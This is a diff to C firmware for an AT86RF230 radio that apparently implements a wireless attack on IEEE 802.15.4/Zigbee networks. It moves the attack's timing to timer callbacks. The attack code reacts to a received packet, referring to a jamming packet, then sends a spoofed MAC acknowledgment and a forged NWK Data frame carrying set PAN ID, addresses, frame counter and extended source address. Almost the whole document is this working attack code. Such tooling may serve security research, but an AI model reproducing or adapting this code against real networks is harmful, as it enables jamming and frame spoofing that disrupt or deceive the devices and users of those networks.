@@ -10,6 +10,7 @@
  * (at your option) any later version.
  */
 
+#include <stddef.h>
 #include <stdbool.h>
 #include <stdint.h>
 
@@ -20,6 +21,81 @@
 #include "spi.h"
 #include "board.h"
 #include "attack.h"
+#include "timer.h"
+
+
+static struct timer wait;
+static uint8_t mac_seq_num = 0;
+
+
+/* Continue once the spoofed MAC acknowledgment has been transmitted */
+
+static void spoof_frame(void *user)
+{
+	/* Spoof a NWK Data packet */
+	spi_begin();
+	spi_send(AT86RF230_BUF_WRITE);
+	spi_send(127);
+	spi_send(0x71);
+	spi_send(0x88);
+	spi_send(0xff);
+	spi_send(PANID & 0xff);
+	spi_send((PANID >> 8) & 0xff);
+	spi_send(SHORTDSTADDR & 0xff);
+	spi_send((SHORTDSTADDR >> 8) & 0xff);
+	spi_send(SHORTSRCADDR & 0xff);
+	spi_send((SHORTSRCADDR >> 8) & 0xff);
+	spi_send(0x08);
+	spi_send(0x02);
+	spi_send(SHORTDSTADDR & 0xff);
+	spi_send((SHORTDSTADDR >> 8) & 0xff);
+	spi_send(SHORTSRCADDR & 0xff);
+	spi_send((SHORTSRCADDR >> 8) & 0xff);
+	spi_send(0x1e);
+	spi_send(0xff);
+	spi_send(0x28);
+	spi_send(FRAMECOUNTER & 0xff);
+	spi_send((FRAMECOUNTER >> 8) & 0xff);
+	spi_send((FRAMECOUNTER >> 16) & 0xff);
+	spi_send((FRAMECOUNTER >> 24) & 0xff);
+	spi_send(EXTENDEDSRCADDR & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 8) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 16) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 24) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 32) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 40) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 48) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 56) & 0xff);
+	spi_send(KEYSEQNUM);
+	spi_end();
+
+	/* Transition into the BUSY_TX state */
+	slp_tr();
+
+	/* Transition into the RX_ON state */
+	change_state(TRX_CMD_RX_ON);
+}
+
+
+/* Continue once the jamming packet has been transmitted */
+
+static void spoof_ack(void *user)
+{
+	/* Spoof a MAC acknowledgment */
+	spi_begin();
+	spi_send(AT86RF230_BUF_WRITE);
+	spi_send(5);
+	spi_send(0x12);
+	spi_send(0x00);
+	spi_send(mac_seq_num);
+	spi_end();
+
+	/* Transition into the BUSY_TX state */
+	slp_tr_more();
+
+	/* Wait for the transmission of the spoofed NWK Data packet */
+	timer_start(&wait, TIMER_US(560), 0, spoof_frame, NULL);
+}
 
 
 /*
@@ -31,7 +107,6 @@
 bool attack(void)
 {
 	uint8_t rx_byte = 0;
-	uint8_t mac_seq_num = 0;
 
 	/* Read the received packet as soon as possible */
 	spi_begin();
@@ -135,68 +210,10 @@ bool attack(void)
 	spi_end();
 
 	/* Transition into the BUSY_TX state */
-	slp_tr();
+	slp_tr_more();
 
 	/* Wait for the transmission of the spoofed MAC acknowledgment */
-	_delay_us(432);
-
-	/* Spoof a MAC acknowledgment */
-	spi_begin();
-	spi_send(AT86RF230_BUF_WRITE);
-	spi_send(5);
-	spi_send(0x12);
-	spi_send(0x00);
-	spi_send(mac_seq_num);
-	spi_end();
-
-	/* Transition into the BUSY_TX state */
-	slp_tr();
-
-	/* Wait for the transmission of the spoofed NWK Data packet */
-	_delay_us(560);
-
-	/* Spoof a NWK Data packet */
-	spi_begin();
-	spi_send(AT86RF230_BUF_WRITE);
-	spi_send(127);
-	spi_send(0x71);
-	spi_send(0x88);
-	spi_send(0xff);
-	spi_send(PANID & 0xff);
-	spi_send((PANID >> 8) & 0xff);
-	spi_send(SHORTDSTADDR & 0xff);
-	spi_send((SHORTDSTADDR >> 8) & 0xff);
-	spi_send(SHORTSRCADDR & 0xff);
-	spi_send((SHORTSRCADDR >> 8) & 0xff);
-	spi_send(0x08);
-	spi_send(0x02);
-	spi_send(SHORTDSTADDR & 0xff);
-	spi_send((SHORTDSTADDR >> 8) & 0xff);
-	spi_send(SHORTSRCADDR & 0xff);
-	spi_send((SHORTSRCADDR >> 8) & 0xff);
-	spi_send(0x1e);
-	spi_send(0xff);
-	spi_send(0x28);
-	spi_send(FRAMECOUNTER & 0xff);
-	spi_send((FRAMECOUNTER >> 8) & 0xff);
-	spi_send((FRAMECOUNTER >> 16) & 0xff);
-	spi_send((FRAMECOUNTER >> 24) & 0xff);
-	spi_send(EXTENDEDSRCADDR & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 8) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 16) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 24) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 32) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 40) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 48) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 56) & 0xff);
-	spi_send(KEYSEQNUM);
-	spi_end();
-
-	/* Transition into the BUSY_TX state */
-	slp_tr();
-
-	/* Transition into the RX_ON state */
-	change_state(TRX_CMD_RX_ON);
+	timer_start(&wait, TIMER_US(432), 0, spoof_ack, NULL);
 
 	return 1;
 }